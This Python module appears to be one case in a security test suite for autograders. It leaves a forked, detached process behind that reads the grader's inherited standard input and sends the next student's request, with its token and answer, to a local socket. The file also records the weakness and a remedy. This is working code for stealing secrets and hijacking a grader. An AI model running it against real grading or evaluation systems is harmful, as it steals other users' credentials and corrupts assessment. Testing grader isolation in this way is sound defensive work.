# SPDX-License-Identifier: MIT
"""Goal:  the next student's request, with the token and the answer in it.
Means: standard input. A grader that talks to its shim over stdin and stdout, and starts students with
       its stdin, gives each of them the stream of requests. A process that is left behind waits on it
       before the grader does; the kernel serves the first who waits. The grader never sees that
       request, and the platform waits for an answer.

    shim --request--> [ pipe ] --> survivor --> 127.0.0.1
                          '------> grader: still waiting
"""

import os
import socket
import stat
import threading
import time

from attack import DONE, attempting, denied, submit

AHEAD, PATIENCE = 0.02, 5  # seconds


def wait_for_a_request(port):
    """The grader reads its child's output to the end: while we hold it, we are first in the queue."""
    os.setsid()
    sink = socket.create_connection(("127.0.0.1", port))
    thief = threading.Thread(target=lambda: sink.sendall(os.read(0, 65536)), daemon=True)
    thief.start()
    time.sleep(AHEAD)
    os.closerange(1, 3)
    thief.join(PATIENCE)


def run(brief):
    submit("0")
    attempting()
    if brief.again:
        return DONE
    if not stat.S_ISFIFO(os.fstat(0).st_mode):
        return denied("standard input", "not a stream of requests")
    try:
        if os.fork() == 0:
            try:
                wait_for_a_request(brief.sink)
            finally:
                os._exit(0)
    except OSError as why:
        return denied("fork", why)
    return DONE


ATTACK = {
    "effect": "the next student's request goes to the attacker",
    "means": "a process left behind reads the grader's stdin, which students inherit",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "quick": True,
    "id": "FDS-03",
    "attack_id": "T1557, CWE-403",
    "remedy": "stdin from /dev/null for students; end every process of a submission",
    "run": run,
}
